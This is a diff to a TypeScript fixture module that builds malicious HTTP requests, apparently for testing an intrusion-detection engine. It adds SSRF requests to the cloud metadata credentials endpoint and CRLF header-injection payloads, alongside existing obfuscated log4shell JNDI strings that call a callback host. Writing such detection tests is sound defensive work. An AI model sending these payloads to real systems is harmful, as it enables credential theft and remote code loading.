@@ -3,7 +3,8 @@
  * traversal, command injection and log4shell requests as the usual tools send them (sqlmap,
  * curl, nuclei, scripts), each in a plain form and in the evasive forms IDS tests use: percent
  * and double percent encoding, a body instead of a query, obfuscation, tiny TCP segments, IP
- * fragments. `type` is the engine's attack_type for each family.
+ * fragments; then SSRF to the cloud metadata service and CRLF injection, two forms each.
+ * `type` is the engine's attack_type for each family.
  */
 import { httpRequest } from './content.js';
 
@@ -12,7 +13,7 @@ export type Delivery = { readonly kind: 'whole' } | { readonly kind: 'segments';
 
 /** One malicious HTTP request and the server's answer. */
 export interface WebAttack {
-  readonly type: 'sqli' | 'xss' | 'path_traversal' | 'command_injection' | 'log4shell';
+  readonly type: 'sqli' | 'xss' | 'path_traversal' | 'command_injection' | 'log4shell' | 'ssrf' | 'crlf_injection';
   readonly variant: string;
   readonly description: string;
   readonly request: string;
@@ -61,5 +62,9 @@ export function webAttacks(): readonly WebAttack[] {
     { type: 'log4shell', variant: 'obfuscated', description: '${${lower:j}ndi:...} in X-Api-Version', request: get('/api/v1/status', UA.nuclei, [['X-Api-Version', `\${\${lower:j}\${lower:n}\${lower:d}i:\${lower:l}dap://${cb}/a}`]]), status: 200, delivery: WHOLE },
     { type: 'log4shell', variant: 'urlencoded', description: '${jndi:...} percent-encoded in a query parameter', request: get(`/?x=%24%7Bjndi%3Aldap%3A%2F%2F${cb}%2Fa%7D`, UA.python), status: 200, delivery: WHOLE },
     { type: 'log4shell', variant: 'split_segments', description: '${jndi:...} in a header, 6-byte TCP segments', request: get('/login', UA.curl, [['X-Forwarded-For', `\${jndi:rmi://${cb}:1099/obj}`]]), status: 200, delivery: { kind: 'segments', size: 6 } },
+    { type: 'ssrf', variant: 'plain', description: 'the metadata service\'s credentials URL in a query parameter', request: get('/api/preview?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/', UA.curl), status: 200, delivery: WHOLE },
+    { type: 'ssrf', variant: 'obfuscated', description: 'the metadata address as one hex number, in a form body', request: post('/settings/webhook', UA.python, 'name=ci&url=http%3A%2F%2F0xA9FEA9FE%2Flatest%2Fuser-data'), status: 200, delivery: WHOLE },
+    { type: 'crlf_injection', variant: 'plain', description: '%0d%0aSet-Cookie in a redirect target', request: get('/redirect?to=%2Fhome%0d%0aSet-Cookie:%20session=attacker', UA.nuclei), status: 302, delivery: WHOLE },
+    { type: 'crlf_injection', variant: 'split_segments', description: '%0d%0aLocation in the path, 6-byte TCP segments', request: get('/%0d%0aLocation:%20http://198.51.100.99/', UA.curl), status: 404, delivery: { kind: 'segments', size: 6 } },
   ];
 }
